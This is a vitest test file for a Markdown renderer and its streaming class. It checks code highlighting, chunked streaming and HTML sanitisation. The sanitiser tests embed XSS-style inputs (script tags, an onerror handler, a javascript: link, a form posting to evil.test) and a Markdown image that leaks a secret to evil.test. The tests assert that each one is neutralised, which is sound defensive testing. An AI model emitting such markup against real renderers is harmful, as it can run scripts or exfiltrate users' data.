import { describe, expect, it } from "vitest";
import { MarkdownStream, highlightCode, markdownToHtml } from "../src/markdown.js";

function textOf(html) {
  const div = document.createElement("div");
  div.innerHTML = html;
  return div;
}

describe("markdownToHtml", () => {
  it("renders Markdown with highlighted code blocks", () => {
    const el = textOf(markdownToHtml("# Title\n\nSome *text*.\n\n```python\ndef f(x):\n    return x\n```\n"));
    expect(el.querySelector("h1").textContent).toBe("Title");
    expect(el.querySelector("em").textContent).toBe("text");
    const code = el.querySelector("pre.pi-code code");
    expect(code.className).toContain("language-python");
    expect(code.querySelector(".hljs-keyword").textContent).toBe("def");
    expect(code.textContent).toBe("def f(x):\n    return x");
  });

  it("escapes code in unknown languages and resolves aliases", () => {
    expect(highlightCode("<b>", "brainfuck")).toEqual({ html: "&lt;b&gt;", language: "" });
    expect(highlightCode("x = 1", "py").language).toBe("python");
    expect(highlightCode("let a: number = 1", "ts").language).toBe("javascript");
  });

  it("removes scripts, handlers, javascript: links, styles and forms", () => {
    const el = textOf(
      markdownToHtml(
        'Hi <script>window.pwned = 1</script><img src="data:image/png;base64,AAAA" onerror="window.pwned = 2">' +
          '\n\n[click](javascript:alert(1)) <style>body { display: none }</style>' +
          '<form action="https://evil.test"><input name="q"></form><span style="position:fixed">x</span>',
      ),
    );
    expect(el.querySelector("script")).toBeNull();
    expect(el.querySelector("style")).toBeNull();
    expect(el.querySelector("form, input")).toBeNull();
    expect(el.querySelector("[onerror]")).toBeNull();
    expect(el.querySelector("[style]")).toBeNull();
    for (const a of el.querySelectorAll("a")) expect(a.getAttribute("href") || "").not.toMatch(/javascript:/i);
    expect(el.querySelector("img").getAttribute("src")).toBe("data:image/png;base64,AAAA");
    expect(window.pwned).toBeUndefined();
  });

  it("turns remote images into links (no silent requests to URLs chosen by model text)", () => {
    const el = textOf(markdownToHtml("![secret](https://evil.test/log?k=SECRET)"));
    expect(el.querySelector("img")).toBeNull();
    const link = el.querySelector("a");
    expect(link.getAttribute("href")).toBe("https://evil.test/log?k=SECRET");
    expect(link.getAttribute("rel")).toContain("noopener");
    expect(link.textContent).toBe("[image: secret]");
  });

  it("opens links in a new tab without opener", () => {
    const a = textOf(markdownToHtml("[docs](https://example.org)")).querySelector("a");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toContain("noopener");
  });
});

function chunks(text, size) {
  const out = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(0, i + size));
  return out;
}

describe("MarkdownStream", () => {
  it("ends with the same text as a whole render, whatever the chunking", () => {
    const text = "Intro paragraph.\n\n- one\n- two\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\nLast *words*.";
    for (const size of [1, 3, 7, 1000]) {
      const el = document.createElement("div");
      const stream = new MarkdownStream(el);
      for (const prefix of chunks(text, size)) stream.update(prefix);
      expect(el.textContent.replace(/\s+/g, " ")).toBe(textOf(markdownToHtml(text)).textContent.replace(/\s+/g, " "));
    }
  });

  it("never splits a code fence, even across blank lines", () => {
    const text = "Before.\n\n```python\nx = 1\n\n\ny = 2\n```\n\nAfter.\n";
    const el = document.createElement("div");
    const stream = new MarkdownStream(el);
    for (const prefix of chunks(text, 2)) stream.update(prefix);
    const pres = el.querySelectorAll("pre");
    expect(pres.length).toBe(1);
    expect(pres[0].textContent).toBe("x = 1\n\n\ny = 2");
  });

  it("keeps finished paragraphs and re-renders only a short tail (linear work)", () => {
    const paragraphs = Array.from({ length: 300 }, (_, i) => `Paragraph ${i} with some words in it.`);
    const text = paragraphs.join("\n\n");
    const el = document.createElement("div");
    const stream = new MarkdownStream(el);
    let maxTail = 0;
    const updates = chunks(text, 97);
    for (const prefix of updates) {
      stream.update(prefix);
      maxTail = Math.max(maxTail, stream.text.length - stream.committed);
    }
    expect(stream.tailRenders).toBe(updates.length);
    expect(maxTail).toBeLessThan(200); // the tail is about one paragraph plus one chunk
    expect(el.querySelectorAll("p").length).toBe(300);
    const first = el.querySelector(".pi-md-chunk");
    stream.update(`${text} more`);
    expect(el.querySelector(".pi-md-chunk")).toBe(first); // committed chunks are not rebuilt
  }, 60_000); // it counts work, not time: a loaded machine must not fail it on vitest's 5 s default

  it("does not commit before an indented continuation line", () => {
    const el = document.createElement("div");
    const stream = new MarkdownStream(el);
    stream.update("1. item\n\n    continued\n");
    expect(stream.committed).toBe(0);
    stream.update("1. item\n\n    continued\n\nNext paragraph");
    expect(stream.committed).toBeGreaterThan(0);
  });

  it("starts over when the text is replaced rather than extended", () => {
    const el = document.createElement("div");
    const stream = new MarkdownStream(el);
    stream.update("Hello\n\nworld\n\nagain");
    stream.update("Different");
    expect(el.textContent.trim()).toBe("Different");
  });
});
